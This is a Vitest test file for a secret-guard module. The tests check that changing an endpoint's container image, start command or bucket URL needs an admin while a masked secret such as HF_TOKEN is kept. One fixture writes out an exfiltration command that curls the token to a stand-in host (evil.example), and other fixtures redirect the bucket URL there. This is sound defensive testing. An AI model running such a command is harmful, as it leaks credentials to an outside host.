import { describe, expect, it } from "vitest";
import { MASKED_ENV_VALUE } from "./secret-env";
import { adminOnlyFieldErrors, changesNeedingAdmin, keptHiddenValues, type ImageAndEnv } from "./secret-guard";

const hidden = MASKED_ENV_VALUE;

/** The endpoint as Novita has it: one secret (HF_TOKEN), a bucket URL, a plain variable. */
const current: ImageAndEnv = {
  image: "team/worker:1",
  command: undefined,
  env: [
    { key: "HF_TOKEN", value: "hf_real_value" },
    { key: "BUCKET_ENDPOINT_URL", value: "https://s3.eu-west-1.amazonaws.com" },
    { key: "MODEL", value: "sdxl" },
  ],
};

/** The edit as the form sends it: the secret still holds the placeholder (its saved value is kept). */
function edit(overrides: Partial<ImageAndEnv> = {}): ImageAndEnv {
  return {
    image: "team/worker:1",
    command: "",
    env: [
      { key: "HF_TOKEN", value: hidden },
      { key: "BUCKET_ENDPOINT_URL", value: "https://s3.eu-west-1.amazonaws.com" },
      { key: "MODEL", value: "sdxl" },
    ],
    ...overrides,
  };
}

const withEnv = (key: string, value: string | undefined) => (rows: ImageAndEnv["env"]) =>
  value === undefined
    ? rows.filter((row) => row.key !== key)
    : rows.map((row) => (row.key === key ? { ...row, value } : row));

describe("keptHiddenValues", () => {
  it("names the rows that keep a saved secret under its own name", () => {
    expect(keptHiddenValues(current.env, edit().env)).toEqual(["HF_TOKEN"]);
    // A new value typed, the row removed, or a placeholder under a name with no saved value: nothing hidden is kept.
    expect(keptHiddenValues(current.env, withEnv("HF_TOKEN", "hf_mine")(edit().env))).toEqual([]);
    expect(keptHiddenValues(current.env, withEnv("HF_TOKEN", undefined)(edit().env))).toEqual([]);
    expect(keptHiddenValues(current.env, [{ key: "OTHER_TOKEN", value: hidden }])).toEqual([]);
    // Not a secret name, or an empty saved value: never hidden.
    expect(keptHiddenValues([{ key: "MODEL", value: "x" }], [{ key: "MODEL", value: hidden }])).toEqual([]);
    expect(keptHiddenValues([{ key: "API_KEY", value: "" }], [{ key: "API_KEY", value: hidden }])).toEqual([]);
    // The form's own (masked) copy of the saved spec reads the same way.
    expect(keptHiddenValues(edit().env, edit().env)).toEqual(["HF_TOKEN"]);
    expect(keptHiddenValues(current.env, [{ key: " HF_TOKEN ", value: hidden }])).toEqual(["HF_TOKEN"]);
  });
});

describe("changesNeedingAdmin", () => {
  // [what the edit changes, the changes that need an admin]
  it.each<[string, Partial<ImageAndEnv>, string[]]>([
    ["nothing", {}, []],
    ["the image", { image: "evil/exfiltrate:1" }, ["image"]],
    ["the image, only by white space", { image: " team/worker:1 " }, []],
    ["the start command", { command: "sh -c 'curl https://evil.example/?t=$HF_TOKEN'" }, ["command"]],
    ["the bucket URL", { env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) }, ["bucketUrl"]],
    [
      "image, command and bucket URL",
      { image: "evil/x:1", command: "x", env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) },
      ["image", "command", "bucketUrl"],
    ],
    ["a plain variable", { env: withEnv("MODEL", "flux")(edit().env) }, []],
    // Removing the bucket URL sends the credentials nowhere new.
    ["the bucket URL away", { env: withEnv("BUCKET_ENDPOINT_URL", undefined)(edit().env) }, []],
    // Without the hidden value there is nothing to move: the new image gets only what the person typed.
    ["the image, with the secret removed", { image: "evil/x:1", env: withEnv("HF_TOKEN", undefined)(edit().env) }, []],
    ["the image, with the secret retyped", { image: "evil/x:1", env: withEnv("HF_TOKEN", "hf_mine")(edit().env) }, []],
  ])("changing %s → %j", (_what, overrides, expected) => {
    expect(changesNeedingAdmin(current, edit(overrides)).changes).toEqual(expected);
  });

  it("an endpoint without hidden values lets anyone who may edit change image, command and bucket URL", () => {
    const plain: ImageAndEnv = { image: "team/worker:1", command: "run", env: [{ key: "MODEL", value: "sdxl" }] };
    expect(
      changesNeedingAdmin(plain, {
        image: "other/worker:2",
        command: "",
        env: [
          { key: "MODEL", value: "sdxl" },
          { key: "BUCKET_ENDPOINT_URL", value: "https://x" },
        ],
      }),
    ).toEqual({ kept: [], changes: [] });
  });

  it("adding a bucket URL to an endpoint that holds a secret needs an admin", () => {
    const noBucket = { ...current, env: withEnv("BUCKET_ENDPOINT_URL", undefined)(current.env) };
    const added = edit({
      env: [
        ...withEnv("BUCKET_ENDPOINT_URL", undefined)(edit().env),
        { key: "BUCKET_ENDPOINT_URL", value: "https://evil.example" },
      ],
    });
    expect(changesNeedingAdmin(noBucket, added)).toEqual({ kept: ["HF_TOKEN"], changes: ["bucketUrl"] });
  });
});

describe("adminOnlyFieldErrors", () => {
  it("puts one message on each field, in the form's field names, naming the hidden values", () => {
    const edited = edit({
      image: "evil/x:1",
      command: "x",
      env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env),
    });
    expect(adminOnlyFieldErrors(changesNeedingAdmin(current, edited), edited.env)).toEqual({
      image: "Only an admin can change the image while this endpoint holds hidden secret values (HF_TOKEN).",
      command: "Only an admin can change the start command while this endpoint holds hidden secret values (HF_TOKEN).",
      "env.1.value":
        "Only an admin can change BUCKET_ENDPOINT_URL while this endpoint holds hidden secret values (HF_TOKEN).",
    });
    expect(adminOnlyFieldErrors(changesNeedingAdmin(current, edit()), edit().env)).toEqual({});
  });
});
